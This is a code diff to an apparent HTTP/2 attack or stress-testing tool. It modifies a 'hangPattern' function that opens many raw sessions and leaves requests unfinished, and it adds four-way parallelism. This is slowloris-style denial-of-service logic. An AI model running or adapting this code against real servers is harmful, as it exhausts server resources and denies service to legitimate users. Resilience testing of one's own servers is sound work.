@@ -1,10 +1,11 @@
 import { randomInt } from "node:crypto";
-import { type Attack, type AttackContext, pause } from "../attack.ts";
+import { type Attack, type AttackContext, inParallel, pause } from "../attack.ts";
 import { encodeFields, headers, PREFACE, settings } from "../frames.ts";
 import { openRawSession, untilEvent } from "../raw-session.ts";
 import { type Kind, requestOf } from "../requests.ts";
 
 const CONNECTIONS = 1_000;
+const IN_PARALLEL = 4;
 const AT_ONCE = 200;
 const ONE_BY_ONE = 400;
 
@@ -13,10 +14,13 @@ export function hangPattern(kind: Kind): Attack {
   return async (context) => {
     const { fields, body } = requestOf(kind);
     const block = encodeFields(fields);
-    for (let made = 0; made < CONNECTIONS && context.isGoing(); made++) {
-      // A request with a body is left without its end.
-      await attackOnce(context, block, body === undefined);
-    }
+    let made = 0;
+    await inParallel(IN_PARALLEL, async () => {
+      while (made++ < CONNECTIONS && context.isGoing()) {
+        // A request with a body is left without its end.
+        await attackOnce(context, block, body === undefined);
+      }
+    });
   };
 }
 
